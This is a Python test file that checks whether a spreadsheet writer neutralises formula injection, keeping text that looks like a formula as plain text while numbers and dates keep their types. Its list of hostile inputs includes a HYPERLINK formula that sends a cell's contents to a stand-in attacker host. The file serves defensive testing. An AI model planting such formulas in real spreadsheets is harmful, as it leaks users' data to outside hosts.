"""Formula injection (issue 16, defect 4): the one .xlsx writer keeps text as text; numbers keep their types."""

import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook

from membercare.core.xlsx import write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"点此")', "+86-138", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
           "=1+1"]


def formulas(workbook) -> list[str]:
    return [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_text_that_looks_like_a_formula_is_written_as_text():
    out = write_xlsx([("会员", ["备注", "金额", "日期"], [[text, Decimal("12.50"), dt.date(2026, 1, 2)]
                                                        for text in HOSTILE])])
    workbook = load_workbook(out)
    assert formulas(workbook) == []
    rows = list(workbook.active.iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [t.replace("\r", "\n") for t in HOSTILE]  # XML reads CR as a line break
    assert rows[0][1] == 12.5 and rows[0][2].date() == dt.date(2026, 1, 2)


def test_the_writer_is_what_a_spreadsheet_reader_sees_as_text():
    out = write_xlsx([("S", ["a"], [["=1+1"]])])
    cell = load_workbook(io.BytesIO(out.read())).active["A2"]
    assert cell.data_type == "s" and cell.value == "=1+1"
